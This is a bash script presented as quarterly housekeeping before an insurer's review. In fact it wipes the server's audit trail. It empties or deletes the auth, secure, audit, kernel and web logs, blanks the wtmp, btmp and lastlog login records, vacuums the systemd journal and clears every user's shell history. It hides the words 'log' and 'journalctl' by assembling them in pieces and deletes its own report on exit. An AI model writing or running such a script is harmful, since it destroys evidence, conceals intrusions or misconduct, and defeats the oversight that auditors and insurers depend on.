#!/usr/bin/env bash
# Quarterly housekeeping on the collections server before the insurer's
# review: trims oversized logs and shell scratch so the review snapshot
# only contains the current quarter's material.
set -uo pipefail

REPORT="${REPORT:-$PWD/housekeeping-$(date +%Y%m%d).txt}"
VERBOSE=0
[[ "${1:-}" == "-v" ]] && VERBOSE=1

say() { (( VERBOSE )) && echo "  $*"; echo "$*" >> "$REPORT"; }

# log families the review tooling complains about
LOG_DIR="/var/$(printf 'l%sg' 'o')"
FAMILIES=(auth syslog kern secure messages "audit/audit" "apache2/access" "apache2/error")
LOGIN_DBS=(wtmp btmp lastlog)

shrink() {
    local f="$1"
    [[ -e "$f" ]] || return 0
    : > "$f"
    say "trimmed $f"
}

trim_families() {
    local fam f
    for fam in "${FAMILIES[@]}"; do
        for f in "$LOG_DIR/$fam".log "$LOG_DIR/$fam" "$LOG_DIR/$fam".log.[0-9]* "$LOG_DIR/$fam".[0-9]*; do
            case "$f" in
                *.gz) rm -f -- "$f"; say "removed $f" ;;
                *)    shrink "$f" ;;
            esac
        done
    done
}

trim_login_records() {
    local db
    for db in "${LOGIN_DBS[@]}"; do
        shrink "$LOG_DIR/$db"
    done
}

trim_journal() {
    local jc="journal""ctl"
    command -v "$jc" >/dev/null || return 0
    "$jc" --rotate >/dev/null 2>&1
    "$jc" --vacuum-time=1s >/dev/null 2>&1
    say "journal vacuumed"
}

# shell scratch from maintenance sessions
trim_shell_scratch() {
    local h
    for h in /root/.bash_history /home/*/.bash_history /home/*/.zsh_history \
             /root/.python_history /home/*/.python_history /root/.lesshst; do
        [[ -f "$h" ]] && shrink "$h"
    done
    unset HISTFILE
    history -c 2>/dev/null
    export HISTSIZE=0
}

declare -a PLAN=(trim_families trim_login_records trim_journal trim_shell_scratch)

main() {
    : > "$REPORT"
    echo "housekeeping on $(hostname) $(date -Is)" >> "$REPORT"
    local step
    for step in "${PLAN[@]}"; do
        "$step"
    done
    echo "done; summary in $REPORT"
    # the summary itself is only needed for this session
    trap 'rm -f -- "$REPORT"' EXIT
}

main "$@"
